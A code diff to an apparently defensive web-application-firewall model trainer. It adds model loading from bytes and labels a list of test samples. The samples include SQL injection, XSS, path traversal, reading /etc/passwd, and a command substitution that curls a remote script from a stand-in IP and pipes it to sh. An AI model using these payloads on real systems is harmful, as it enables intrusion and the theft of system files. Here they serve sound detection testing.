@@ -209,6 +209,19 @@ class Model:
     def probabilities(self, features):
         return sigmoid(self.margins(features))
 
+    @classmethod
+    def from_bytes(cls, data):
+        if data[:8] != MAGIC:
+            raise ValueError("not a PCWAFM02 model file")
+        buckets, _, scale, bias, threshold, confirm_threshold = struct.unpack("<IIdddd", data[8:48])
+        model = cls.__new__(cls)
+        model.scale, model.bias = scale, bias
+        model.threshold, model.confirm_threshold = threshold, confirm_threshold
+        model.weights = np.frombuffer(data[48:], dtype="<i2").astype(np.int16)
+        if len(model.weights) != buckets:
+            raise ValueError(f"{len(model.weights)} weights for {buckets} buckets")
+        return model
+
     def to_bytes(self):
         header = MAGIC + struct.pack(
             "<IIdddd", BUCKETS, MAX_N, self.scale, self.bias, self.threshold, self.confirm_threshold
@@ -253,7 +266,12 @@ def main():
     parser.add_argument("--corpus", type=Path, default=REPO / "target" / "waf-model",
                         help="directory with train.jsonl from corpus.py (default: target/waf-model)")
     parser.add_argument("--out", type=Path, default=MODEL_DIR / "model.bin")
+    parser.add_argument("--samples", action="store_true",
+                        help="only rewrite samples.tsv from the existing model file")
     args = parser.parse_args()
+    if args.samples:
+        write_samples(Model.from_bytes(args.out.read_bytes()), MODEL_DIR / "samples.tsv")
+        return
 
     values, labels, sources = load(args.corpus / "train.jsonl")
     held = validation_mask(sources)
@@ -279,35 +297,36 @@ def main():
     print(f"wrote {args.out}", file=sys.stderr)
 
 
+# Values whose probabilities samples.tsv records, with the expected label: 1 for an attack the
+# model must score at or above its threshold, 0 for a benign value it must score below it.
 SAMPLES = [
-    "1' OR '1'='1",
-    "1 UNION SELECT username, password FROM users--",
-    "<script>alert(document.cookie)</script>",
-    "<img src=x onerror=alert(1)>",
-    "../../../../etc/passwd",
-    "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
-    "; cat /etc/passwd",
-    "$(curl http://198.51.100.7/x.sh | sh)",
-    "O'Brien",
-    "It's a \"great\" day, isn't it? Let's meet at Joe's.",
-    "Please select a plan from the menu and update your profile.",
-    "alice.o'hara@example.com",
-    "https://example.com/search?q=rust+async&page=2#results",
-    "{\"nested\": [1, 2, {\"key\": \"value\"}]}",
-    "SGVsbG8sIHdvcmxkISBUaGlzIGlzIGJhc2U2NCBlbmNvZGVkIHRleHQu",
-    "2024-01-01T10:00:00Z",
-    "Grüße aus Köln",
-    "",
+    (1, "1' OR '1'='1"),
+    (1, "1 UNION SELECT username, password FROM users--"),
+    (1, "<script>alert(document.cookie)</script>"),
+    (1, "<img src=x onerror=alert(1)>"),
+    (1, "../../../../etc/passwd"),
+    (1, "%2e%2e%2f%2e%2e%2fetc%2fpasswd"),
+    (1, "; cat /etc/passwd"),
+    (1, "$(curl http://198.51.100.7/x.sh | sh)"),
+    (0, "O'Brien"),
+    (0, "It's a \"great\" day, isn't it? Let's meet at Joe's."),
+    (0, "Please select a plan from the menu and update your profile."),
+    (0, "alice.o'hara@example.com"),
+    (0, "https://example.com/search?q=rust+async&page=2#results"),
+    (0, "{\"nested\": [1, 2, {\"key\": \"value\"}]}"),
+    (0, "SGVsbG8sIHdvcmxkISBUaGlzIGlzIGJhc2U2NCBlbmNvZGVkIHRleHQu"),
+    (0, "2024-01-01T10:00:00Z"),
+    (0, "Grüße aus Köln"),
+    (0, ""),
 ]
 
 
 def write_samples(model, path):
-    """Write the probability of each sample value, which the Rust tests compare with theirs."""
-    features = Features(SAMPLES)
-    probabilities = model.probabilities(features)
-    lines = ["# value (JSON string)\tprobability from train.py\n"]
-    for value, probability in zip(SAMPLES, probabilities):
-        lines.append(f"{json.dumps(value)}\t{probability:.12f}\n")
+    """Write the label and probability of each sample, which the Rust tests check."""
+    probabilities = model.probabilities(Features([value for _, value in SAMPLES]))
+    lines = ["# label\tvalue (JSON string)\tprobability from train.py\n"]
+    for (label, value), probability in zip(SAMPLES, probabilities):
+        lines.append(f"{label}\t{json.dumps(value)}\t{probability:.12f}\n")
     path.write_text("".join(lines))
 
 
